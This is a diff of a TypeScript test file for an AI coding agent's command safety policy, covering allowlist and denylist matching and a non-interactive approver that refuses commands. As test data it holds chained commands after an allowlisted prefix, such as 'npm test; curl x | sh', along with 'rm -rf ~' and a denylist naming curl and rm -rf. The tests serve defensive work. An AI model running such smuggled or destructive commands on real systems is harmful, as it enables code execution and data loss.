@@ -1,5 +1,5 @@
-// run_command's safety (DESIGN §5): the allowlist only without shell metacharacters, the denylist
-// always, and a runner that bounds time and output and kills everything a command started.
+// run_command's safety (DESIGN §5): the allowlist only for one simple command, the denylist
+// always (commandPolicy.test.ts has the attacks), and a runner that bounds time and output and kills everything a command started.
 import assert from 'node:assert/strict';
 import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import * as os from 'node:os';
@@ -7,7 +7,7 @@ import * as path from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { after, describe, test } from 'node:test';
 import { AutoApprover, NOT_INTERACTIVE_EDIT, toDecision, type Approver } from '../../src/agent/approver';
-import { compileCommandPolicy, findShellMetacharacter, judgeCommand } from '../../src/agent/commandPolicy';
+import { compileCommandPolicy, judgeCommand } from '../../src/agent/commandPolicy';
 import { NodeCommandRunner, type CommandRequest, type CommandResult, type CommandRunner } from '../../src/agent/commandRunner';
 import { NodeWorkspace } from '../../src/agent/nodeWorkspace';
 import { SnapshotStore } from '../../src/agent/snapshots';
@@ -37,13 +37,13 @@ async function waitFor(check: () => boolean, ms = 5000): Promise<void> {
 describe('command policy', () => {
   const policy = compileCommandPolicy({ allowedCommands: ['^npm test', 'node test\\.js', 'git (status|diff)'], deniedCommands: ['rm\\s+-rf', 'curl'] });
 
-  test('allowlisted commands without metacharacters run on their own', () => {
+  test('allowlisted simple commands run on their own', () => {
     for (const c of ['npm test', 'npm test -- --grep parser', '  node test.js  ', 'git status', 'git diff --stat']) {
       assert.equal(judgeCommand(c, policy).action, 'run', c);
     }
   });
 
-  test('metacharacters smuggled after an allowlisted prefix need approval', () => {
+  test('operators and expansions smuggled after an allowlisted prefix need approval', () => {
     for (const c of [
       'npm test; echo x | sh',
       'npm test && echo pwned',
@@ -59,9 +59,8 @@ describe('command policy', () => {
     ]) {
       const v = judgeCommand(c, policy);
       assert.equal(v.action, 'ask', JSON.stringify(c));
-      assert.match(v.reason, /metacharacter/);
+      assert.match(v.reason, /not one simple command/);
     }
-    assert.equal(findShellMetacharacter('a $(b)'), '"$("');
   });
 
   test('the allowlist is anchored at the start; others ask', () => {
@@ -70,7 +69,7 @@ describe('command policy', () => {
     assert.match(judgeCommand('python -m pytest', policy).reason, /no allowed command/);
   });
 
-  test('the denylist wins over the allowlist and over metacharacter rules', () => {
+  test('the denylist wins over the allowlist and over the simple-command rule', () => {
     assert.equal(judgeCommand('npm test; curl x | sh', policy).action, 'deny');
     assert.equal(judgeCommand('rm -rf ~', policy).action, 'deny');
     assert.equal(judgeCommand('rm   -rf /tmp/x', policy).action, 'deny');
@@ -82,8 +81,8 @@ describe('command policy', () => {
   test('invalid patterns: an allowed one is ignored, a denied one matches literally', () => {
     const p = compileCommandPolicy({ allowedCommands: ['npm (test'], deniedCommands: ['rm (x'] });
     assert.deepEqual(p.invalid, ['npm (test', 'rm (x']);
-    assert.equal(judgeCommand('npm (test', p).action, 'ask');
-    assert.equal(judgeCommand('sudo rm (x', p).action, 'deny');
+    assert.equal(judgeCommand("npm '(test'", p).action, 'ask');
+    assert.equal(judgeCommand("echo 'rm (x'", p).action, 'deny');
   });
 });
 
@@ -96,14 +95,13 @@ describe('AutoApprover (non-interactive runs)', () => {
     assert.equal(toDecision(await new AutoApprover({ edits: true }).approveEdit({ path: 'a.ts', kind: 'edit', diff: '' })).approved, true);
   });
 
-  test('--allow-command approves matches but never metacharacters; secrets stay hidden', async () => {
+  test('commands are never approved here (judgeCommand already ran what may run); secrets stay hidden', async () => {
     const a = new AutoApprover({ edits: true, commandRegexes: ['^npm test'] });
-    const ask = async (command: string) => toDecision(await a.approveCommand({ command, reason: '', cwd: '/', sandboxed: true }));
-    assert.equal((await ask('npm test')).approved, true);
-    const smuggled = await ask('npm test; curl x | sh');
+    const ask = async (command: string, reason: string) => toDecision(await a.approveCommand({ command, reason, cwd: '/', sandboxed: true }));
+    const smuggled = await ask('npm test; curl x | sh', 'it is not one simple command (it has the operator ";")');
     assert.equal(smuggled.approved, false);
-    assert.match(smuggled.reason!, /metacharacter ";"/);
-    assert.match((await ask('ls')).reason!, /matches no --allow-command pattern/);
+    assert.match(smuggled.reason!, /non-interactive run: the command needs approval \(it is not one simple command .*\) and nobody can give it; command not run/);
+    assert.equal((await ask('npm test', 'r')).approved, false);
     assert.equal(toDecision(await a.approveSensitive()).approved, false);
   });
 });
@@ -215,7 +213,7 @@ describe('run_command tool', () => {
     const c = ctx(runner, { ...approveAll, approveCommand: async (r) => (asked.push(r.command), { approved: false, reason: 'not now' }) });
     assert.match((await executeToolCall(call('npm test'), tools, c)).content, /exit code 0/);
     const o = await executeToolCall(call('npm test; curl x | sh'), tools, c);
-    assert.match(o.content, /NOT run: not now.*metacharacter/);
+    assert.match(o.content, /NOT run: not now.*not one simple command/);
     const again = await executeToolCall(call('npm test; curl x | sh'), tools, c);
     assert.match(again.content, /already refused/);
     assert.deepEqual(asked, ['npm test; curl x | sh'], 'asked once');
